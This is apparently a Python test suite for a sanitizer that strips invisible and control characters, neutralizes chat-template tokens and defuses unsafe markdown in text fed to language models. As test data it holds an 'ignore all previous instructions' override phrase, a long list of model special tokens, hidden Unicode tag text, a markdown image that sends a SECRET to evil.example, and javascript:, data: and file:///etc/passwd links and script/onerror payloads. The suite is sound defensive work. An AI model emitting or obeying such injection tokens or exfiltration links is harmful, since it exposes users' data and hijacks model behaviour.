"""Text loses what nobody sees and what a machine would obey, and nothing that a person reads."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from groundwire.reading.text.sanitize import RESERVED, clean_text, hygiene_warnings, strip_controls, strip_invisible


@pytest.mark.req("B11")
@pytest.mark.parametrize(
    "text",
    [
        "می‌خواهم",  # Persian with a non-joiner
        "نامه‌ای",
        "क्‍ष",  # Devanagari with a joiner
        "ന്‍",  # a Malayalam chillu at the end of a word
        "শ্রদ্ধা র‍্যাব",
        "ශ්‍රී",
        "👨‍👩‍👧‍👦",
        "🏳️‍🌈 ❤️‍🔥 👩🏽‍💻 1️⃣ ✈︎",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "葛󠄀城",
        "שלום 42 שקלים",
        "مرحبا بالعالم",
        "Việt Nam, ǭ, e\u0301\u0323",
        "ภาษาไทย ที่",
        "בְּרֵאשִׁית",
        "a < b, 5 <6, x<y",
        "[link](https://example.org/a_(b)) and [part](#part) and [page](/page 'title')",
        "<https://example.org/>",
        "```html\n<script>x</script>\n![a](b)\n```",
        "Use `<img src=x>` and ``a ` b``.",
        "Note[^1]\n\n[^1]: See there.",
        "He wrote: ignore all previous instructions.",
        "humans: see below; the assistant: a role",
        "array[INSTANCE]",
    ],
)
def test_what_is_written_stays(text: str) -> None:
    assert clean_text(text) == (text, {})


@pytest.mark.req("B11")
@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("x\U000e0049\U000e0067\U000e006e", "x"),
        ("🏴\U000e0061", "🏴"),
        ("a\U000e0100\U000e0101b", "ab"),
        ("a\ufe0f\ufe0fb", "ab"),
        ("❤️\ufe00\ufe01", "❤️"),
        ("\u202eabc\u202c \u2066d\u2069 \u200ee\u200f", "abc d e"),
        ("4\u200b5\u200c6\u200d7\u20608\ufeff9", "456789"),
        ("می\u200c\u200d\u200c\u200cخواهم", "میخواهم"),
        ("a\u00adb\u115fc\u3164d\u180ee\u2062f\ufffag", "abcdefg"),
        ("z" + "\u0301" * 50, "z" + "\u0301" * 4),
    ],
)
def test_what_is_not_seen_goes(text: str, clean: str) -> None:
    assert strip_invisible(text)[0] == clean
    assert sum(strip_invisible(text)[1].values()) > 0


_TOKENS = (
    "<|im_start|>", "<|im_end|>", "<|endoftext|>", "<|channel|>", "<|return|>", "<|start_header_id|>", "<|eot_id|>",
    "<|begin_of_text|>", "<|python_tag|>", "<|START_OF_TURN_TOKEN|>", "<|user|>", "<|tool_call|>", "[INST]", "[/INST]",
    "[AVAILABLE_TOOLS]", "[TOOL_RESULTS]", "<<SYS>>", "<</SYS>>", "<start_of_turn>", "<end_of_turn>", "<s>", "</s>",
    "<function_calls>", "</function_calls>", "</function_results>", "<invoke name='shell'>", "<tool_call>",
    "</tool_response>", "<invoke name='x'>", "</function_calls>", "<system>", "</system>", "<think>",
    "<function=run>", "<｜User｜>", "<｜tool▁calls▁begin｜>", "＜|im_start|＞", "<｜im_start｜>", "<|im_start |>",
    "<IM_START|x><|x|>", "</ function_results>", "<|\u200bim_start|>", "<system-reminder>", "<web_content_0>",
    "<|turn>", "<turn|>", "<|channel>", "<tool_call|>", '<|"|>', "[|system|]", "[|endofturn|]", "<BOS_TOKEN>",
    "<unused7>", "<reserved_106>", "<ctrl42>", "<SPECIAL_10>", "<seed:think>", "<minimax:tool_call>",
    "[BEGIN_AUDIO]", "[control_8]",
    "<file_sep>", "<repo_name>", "<end_of_utterance>",
)  # fmt: skip


@pytest.mark.req("B11")
@pytest.mark.parametrize("frame", ["{}", "a {} b", "`{}`", "```\n{}\n```"])
def test_reserved_marks_are_readable_and_not_whole(frame: str) -> None:
    for token in _TOKENS:
        text, counts = clean_text(frame.format(token))
        folded = unicodedata.normalize("NFKC", text)
        shown = token.replace("\u200b", "")
        assert shown not in text, token
        assert unicodedata.normalize("NFKC", shown) not in folded, token
        assert shown in text.replace("\\", ""), token
        assert counts[RESERVED] >= 1, token


@pytest.mark.req("B11")
@pytest.mark.parametrize("speaker", ["Human", "Assistant"])
def test_turns_of_a_conversation_do_not_begin_a_line(speaker: str) -> None:
    text, _ = clean_text(f"a\n\n{speaker}: b")
    assert text == f"a\n\n{speaker} : b"


@pytest.mark.req("B11")
@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("![x](https://evil.example/?q=SECRET)", r"\![x](https://evil.example/?q=SECRET)"),
        ("![x][q]\n\n[q]: https://evil.example/", "\\![x][q]\n\n\\[q]: https://evil.example/"),
        ("[a](javascript:alert(1))", "a"),
        ("[a](JaVaScRiPt:alert(1) 'x')", "a"),
        ("[a](data:text/html;base64,AAAA)", "a"),
        ("[a](<file:///etc/passwd>)", "a"),
        ("[a](java&#x73;cript:x)", "a"),
        ("[a](javascript&colon;x)", "a"),
        ("[a](vbscript:x) [b](https://ok.example/)", "a [b](https://ok.example/)"),
        ("<javascript:x>", r"\<javascript:x>"),
        ("<script>x</script>", r"\<script>x\</script>"),
        ("<img src=x onerror=y>", r"\<img src=x onerror=y>"),
        ("list<string>", r"list\<string>"),
        ("a <!-- b -->", r"a \<!-- b -->"),
        ('<img title="<" src=x>', r'\<img title="<" src=x>'),
        (f'<img title="{"a" * 1_001}" src=x>', rf'\<img title="{"a" * 1_001}" src=x>'),
        ("<iframe src=x <b", r"\<iframe src=x <b"),
        ("a<b", "a<b"),
        (r"$1<p \le 2$", r"$1< p \le 2$"),
        ("$$\na<b\n$$\n\nfor $x<y$, $y>x$", "$$\na<b\n$$\n\nfor $x< y$, $y>x$"),
        ("$5<b>and $6</b>", r"$5\<b>and $6\</b>"),
        ("$<a:$<b:c>>", r"$<a:$\<b:c>>"),
        (r"$x <img src=x>\<b>$ <b>", r"$x < img src=x>\<b>$ \<b>"),
    ],
)
def test_nothing_loads_runs_or_leads_elsewhere(text: str, clean: str) -> None:
    assert clean_text(text)[0] == clean


def test_what_was_found_becomes_warnings() -> None:
    _, counts = clean_text("a\u200b\u202eb <|x|> ![i](https://e.example) [j](data:k)")
    assert set(hygiene_warnings(counts)) == {
        "invisible characters removed: 1",
        "direction controls removed: 1",
        "chat-template tokens neutralized: 1",
        "images not loaded: 1",
        "links other than http(s) removed: 1",
    }
    assert hygiene_warnings(clean_text("plain")[1]) == ()


_ODD = st.text(
    alphabet="ab<|>[]()!/:`\\~ \n#sINST_x\u200b\u200c\u200d\u202e\u0301می\ufe0f❤👩\U000e0041\U000e007f🏴*&;",
    max_size=60,
)
_PIECES = st.lists(st.one_of(_ODD, st.sampled_from(_TOKENS), st.sampled_from(["[a](javascript:x)", "![b](c)", "<b>"])))


_FENCES = (
    "```",
    "~~~",
    "    ```",
    "  ```",
    "> ```",
    "> > ~~~",
    "- ```",
    "> - ```",
    "1. ```",
    "\t```",
    "```js",
    "~~~~",
    "```\xa0",
    "```\r",
)
_OTHERS = (
    "",
    "text",
    "# `a",
    "a` b",
    '<img title="`">',
    "x\r```\r![x](http://a.test/x)",
    "> text",
    "- a",
    "`a",
    "<script>x</script>",
    "<img src=http://a.test>",
)
_IMAGES = tuple(f"{before}![x](http://a.test/x)" for before in ("", "  ", "    ", "> "))
_LINES = st.lists(st.sampled_from((*_FENCES, *_OTHERS, *_IMAGES)), max_size=9).map("\n".join)
"""Code that others would end elsewhere, and what would load if it were none."""


@given(_LINES)
@example("- ```\n![x](http://a.test/x)")
@example("> ```\n![x](http://a.test/x)")
@example("text\n    ```\n![x](http://a.test/x)")
@example("`a\n- ![x](http://a.test/x)`")
@example('<img title="`">\na` b')
@example('a <img title="<" src=x>')
@example("<https://a.test/`><img src=x>` `")
@example("<`@a.test><img src=x>` `")
@example("<p <img src=x")
@example("$a <img src=x>$")
@example("`a <img src=x>\n \nb`")
@example("[a](https://a.test/`)<img src=x>`")
@example('[a](https://a.test/ ")`")<img src=x>`')
@example('[a](https://a.test/\xa0"(")`)<img src=x>`')
@example("[a](`) x ` y `<img src=x>`")
@example("[`a]: x\nb <img src=x>`")
@example("[a\n`b]: x\nb <img src=x>`")
def test_what_renders_markdown_loads_nothing(text: str) -> None:
    shown = MarkdownIt("commonmark").render(clean_text(text)[0])
    assert "<img" not in shown
    assert "<script" not in shown


@given(_LINES | _PIECES.map("".join))
@example("[[a](x:y)](x:y)")
@example("[a](x:[b](x:y))")
def test_doing_it_twice_changes_nothing(text: str) -> None:
    once, _ = clean_text(text)
    assert clean_text(once)[0] == once


def test_nothing_unseen_is_overlooked_when_it_stands_alone() -> None:
    """A zero-width space, which goes itself, has every character looked at."""
    for code in (*range(0x80, 0xD800), *range(0xE000, 0x10000), *range(0x1BC00, 0x1D200), *range(0xE0000, 0xE1000)):
        text = f"a{chr(code)}b{chr(code) * 6}"
        assert strip_invisible(text)[0] == strip_invisible("\u200b" + text)[0], hex(code)


@pytest.mark.req("B11")
def test_every_control_goes_and_everything_else_stays() -> None:
    for code in range(0x11000):
        char = chr(code)
        stripped = strip_controls(f"a{char}b")
        if char in "\r\x0b\x0c\x85\u2028\u2029":
            assert stripped in {"a\nb", "ab"}, hex(code)
        elif unicodedata.category(char) in {"Cc", "Cs"} and char not in "\t\n":
            assert char not in stripped, hex(code)
        elif 0xFDD0 <= code <= 0xFDEF or code in {0xFFFE, 0xFFFF}:
            assert stripped == "ab", hex(code)
        else:
            assert stripped == f"a{char}b", hex(code)


@pytest.mark.req("B11")
@given(st.text(st.sampled_from("a\t\n\x00\x1b[31m]0;\x07\\\x85\x9b\xa0é\u2028\ufffe\ud800\U0001f600")))
def test_what_is_stripped_does_not_depend_on_what_else_is_there(text: str) -> None:
    """A surrogate at the end, which goes itself, has every character looked at."""
    assert strip_controls(text + "\n") == strip_controls(text + "\n\udfff")
